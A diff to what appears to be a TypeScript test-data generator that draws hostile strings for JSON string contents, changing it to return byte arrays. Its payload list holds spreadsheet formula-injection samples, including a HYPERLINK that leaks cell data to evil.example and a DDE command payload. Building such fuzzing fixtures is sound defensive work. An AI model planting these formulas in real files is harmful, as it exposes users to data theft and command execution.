@@ -1,7 +1,8 @@
 /** Text that breaks whoever trusts it, as the inside of a JSON string. */
-import { draw } from "./Draw.ts"
+import { draw, pick } from "./Draw.ts"
+import { fixed } from "./RecordWriter.ts"
 
-const texts: ReadonlyArray<string> = [
+const texts: ReadonlyArray<Uint8Array> = [
   // spreadsheets
   `=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"open\\")`,
   `@SUM(1+1)*cmd|' /C calc'!A0`,
@@ -35,7 +36,7 @@ const texts: ReadonlyArray<string> = [
   ``,
   ` `,
   "very long ".repeat(500)
-]
+].map(fixed)
 
 /** The inside of a JSON string, by a draw. */
-export const hostileText = (key: number): string => texts[draw(key, 0) % texts.length] ?? ""
+export const hostileText = (key: number): Uint8Array => pick(texts, draw(key, 0))
